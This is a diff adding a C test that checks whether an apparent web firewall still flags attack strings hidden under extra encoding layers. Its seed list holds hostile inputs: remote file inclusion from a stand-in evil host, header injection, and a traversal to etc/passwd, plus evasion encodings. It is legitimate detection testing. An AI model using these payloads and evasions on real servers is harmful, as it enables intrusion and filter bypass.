@@ -96,6 +96,91 @@ static void test_deep_encoding(const lw_engine_t *e, apr_pool_t *p)
     CHECK(classify(e, "/s?q=100%25+sure+50%+off", p, &res) == 0);
 }
 
+/* s wrapped in one more layer of an encoding the application undoes,
+ * then percent-encoded as a query value: 'u' every byte as %uXXXX, 'x'
+ * every byte but letters and digits as an entity &#xHH;, 'n' a NUL after
+ * every byte, 'o' every byte but letters and digits as an overlong
+ * two-byte form, '2' percent-encoded once more. */
+static const char *wrap(apr_pool_t *p, const char *s, int how)
+{
+    char *o = apr_palloc(p, strlen(s) * 12 + 1), *d = o;
+
+    if (how == '2')
+        return enc(p, enc(p, s, 1), 1);
+    for (; *s; s++) {
+        unsigned char c = (unsigned char)*s;
+        int alnum = ((c | 0x20) >= 'a' && (c | 0x20) <= 'z')
+                    || (c >= '0' && c <= '9');
+        if (how == 'u')
+            d += apr_snprintf(d, 7, "%%u%04x", c);
+        else if (how == 'o' && !alnum)
+            d += apr_snprintf(d, 7, "%%%02x%%%02x", 0xc0 | (c >> 6),
+                              0x80 | (c & 0x3f));
+        else if (how == 'x' && !alnum)
+            d += apr_snprintf(d, 7, "&#x%x;", c);
+        else {
+            *d++ = (char)c;
+            if (how == 'n')
+                *d++ = '\x01';   /* a NUL once encoded below */
+        }
+    }
+    *d = '\0';
+    if (how == 'u' || how == 'o')
+        return o;
+    {
+        /* percent-encoded as sent ('\x01' stands for the NUL) */
+        char *q = (char *)enc(p, o, 1), *r;
+        while ((r = strstr(q, "%01")) != NULL)
+            r[2] = '0';
+        return q;
+    }
+}
+
+static void test_raw_rules_under_one_more_layer(const lw_engine_t *e,
+                                                apr_pool_t *p)
+{
+    /* attacks only a rule on the bytes as sent (form raw) flags: their
+     * own encoding (%00 cutting a suffix, a %0A before a mail header,
+     * %c1%af between path names) or backslashes the normal form turns
+     * into slashes */
+    static const char *const seeds[] = {
+        "http://evil.example.com/a.txt%00",
+        "\\\\198.51.100.9\\share\\x.php",
+        "x@example.com%0ATo:%20other@example.org",
+        "..%c1%afetc%c1%afpasswd",
+        "//evil.example.org/pub/shell.txt?",
+    };
+    static const char hows[] = "uxno2";
+    static const char *const benign[] = {
+        "Fish & Chips, 10\xc2\xa0km", "caf\xc3\xa9 cr\xc3\xa8me",
+        "https://example.com/a?b=c&d=e", "100% sure, 50%25 off",
+    };
+    lw_result_t res;
+    int i, k;
+
+    for (i = 0; i < (int)(sizeof(seeds) / sizeof(seeds[0])); i++) {
+        CHECK(classify(e, apr_pstrcat(p, "/index.php?id=", enc(p, seeds[i],
+                                      1), NULL), p, &res) == 1);
+        for (k = 0; hows[k]; k++) {
+            const char *u = apr_pstrcat(p, "/index.php?id=",
+                                        wrap(p, seeds[i], hows[k]), NULL);
+            int got = classify(e, u, p, &res);
+            if (got != 1)
+                fprintf(stderr, "clean: %s\n", u);
+            CHECK(got == 1);
+        }
+    }
+    for (i = 0; i < (int)(sizeof(benign) / sizeof(benign[0])); i++)
+        for (k = 0; hows[k]; k++) {
+            const char *u = apr_pstrcat(p, "/index.php?id=",
+                                        wrap(p, benign[i], hows[k]), NULL);
+            int got = classify(e, u, p, &res);
+            if (got != 0)
+                fprintf(stderr, "flagged: %s\n", u);
+            CHECK(got == 0);
+        }
+}
+
 /* A form body of n short fields, then the value v as "q". */
 static int classify_form(const lw_engine_t *e, int n, const char *v,
                          apr_pool_t *p, lw_result_t *res)
@@ -251,6 +336,7 @@ int main(void)
     if (e) {
         test_overlong_and_nul_escapes(e, p);
         test_deep_encoding(e, p);
+        test_raw_rules_under_one_more_layer(e, p);
         test_form_fields_past_the_bound(e, p);
         test_text_plain_json(e, p);
         test_wide_bodies(e, p);
